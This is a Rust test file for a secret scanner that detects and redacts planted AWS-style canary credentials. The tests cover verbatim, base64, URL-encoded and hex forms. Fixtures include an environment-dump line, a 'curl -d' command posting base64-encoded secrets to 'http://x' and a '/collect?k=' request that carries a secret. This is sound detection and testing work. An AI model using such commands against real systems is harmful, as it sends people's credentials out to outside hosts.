//! Canaries are found verbatim and in the encodings exfiltration uses, and beat the AWS rules.

use crate::common;

use base64::Engine as _;
use common::*;
use sandlot_guard::{redact, Canary, GuardError, Kind, Scanner};

/// A canary whose secret has `/` and `+`, so percent-encoding changes it.
fn canary_with_specials() -> Canary {
    let r = &mut Rng::new(42);
    Canary {
        access_key_id: format!("AKIA{}", r.token(BASE32, 16)),
        secret: format!(
            "{}/{}+{}",
            r.token(ALNUM, 13),
            r.token(ALNUM, 13),
            r.token(ALNUM, 12)
        ),
    }
}

fn scanner_for(c: &Canary) -> Scanner {
    Scanner::default().with_canaries(&c.values()).unwrap()
}

#[test]
fn printed_canary_is_a_canary_finding_not_an_aws_secret() {
    let c = Canary::generate();
    let scanner = scanner_for(&c);
    let text = format!("import os; print(os.environ)\n{{'AWS_ACCESS_KEY_ID': '{}', 'AWS_SECRET_ACCESS_KEY': '{}'}}\n", c.access_key_id, c.secret);
    let findings = scanner.scan(&text);
    assert_eq!(rules(&findings), vec!["canary", "canary"]);
    assert!(findings.iter().all(|f| f.kind == Kind::Canary));
    assert_eq!(
        values(&text, &findings),
        vec![c.access_key_id.as_str(), c.secret.as_str()]
    );
    let out = redact(&text, &findings);
    assert!(!out.contains(&c.access_key_id) && !out.contains(&c.secret));
    assert_eq!(out.matches("[REDACTED:canary]").count(), 2);
}

#[test]
fn credentials_file_cat_is_found() {
    let c = Canary::generate();
    let findings = scanner_for(&c).scan(&c.credentials_file());
    assert_eq!(rules(&findings), vec!["canary", "canary"]);
}

#[test]
fn without_canaries_the_same_text_is_an_aws_secret() {
    let c = Canary::generate();
    let findings = Scanner::default().scan(&c.credentials_file());
    assert_eq!(
        rules(&findings),
        vec!["aws-access-key-id", "aws-secret-access-key"]
    );
}

#[test]
fn base64_encoded_canary_is_found_at_every_alignment() {
    let c = canary_with_specials();
    let scanner = scanner_for(&c);
    for engine in [
        &base64::engine::general_purpose::STANDARD,
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ] {
        for prefix in ["", "k", "ke", "key=", "{\"creds\": \""] {
            for value in c.values() {
                let payload = format!("{prefix}{value}\"}} and more");
                let text = format!("curl -d {} http://x\n", engine.encode(&payload));
                let findings = scanner.scan(&text);
                assert_eq!(
                    rules(&findings),
                    vec!["canary-base64"],
                    "prefix {prefix:?} in {text}"
                );
                assert!(!redact(&text, &findings).contains(&engine.encode(&payload)));
            }
        }
    }
}

#[test]
fn url_and_hex_encoded_canary_is_found() {
    let c = canary_with_specials();
    let scanner = scanner_for(&c);
    let upper = c.secret.replace('/', "%2F").replace('+', "%2B");
    let lower = c.secret.replace('/', "%2f").replace('+', "%2b");
    for encoded in [upper, lower] {
        let text = format!("GET /collect?k={encoded}&x=1 HTTP/1.1\n");
        assert_eq!(
            rules(&scanner.scan(&text)),
            vec!["canary-urlencoded"],
            "{text}"
        );
    }
    let text = format!("{}\n", hex::encode(c.secret.as_bytes()));
    assert_eq!(rules(&scanner.scan(&text)), vec!["canary-hex"]);
    let text = format!("{}\n", hex::encode_upper(c.access_key_id.as_bytes()));
    assert_eq!(rules(&scanner.scan(&text)), vec!["canary-hex"]);
}

#[test]
fn another_sandboxs_canary_is_only_an_aws_secret() {
    let mine = Canary::generate();
    let theirs = Canary::generate();
    let findings = scanner_for(&mine).scan(&theirs.credentials_file());
    assert!(findings.iter().all(|f| f.kind == Kind::Secret));
}

#[test]
fn short_canaries_are_refused() {
    let err = Scanner::default().with_canaries(&["abc"]).unwrap_err();
    assert!(
        matches!(err, GuardError::CanaryTooShort { len: 3, .. }),
        "{err}"
    );
    assert_eq!(
        Scanner::default()
            .with_canaries::<&str>(&[])
            .unwrap()
            .canary_count(),
        0
    );
}

#[test]
fn canary_generation_is_fast_and_fresh() {
    let start = std::time::Instant::now();
    let mut seen = std::collections::HashSet::new();
    for _ in 0..1000 {
        assert!(seen.insert(Canary::generate().access_key_id));
    }
    let per = start.elapsed() / 1000;
    println!("Canary::generate: {per:?} each");
    assert!(per < std::time::Duration::from_millis(1));
}
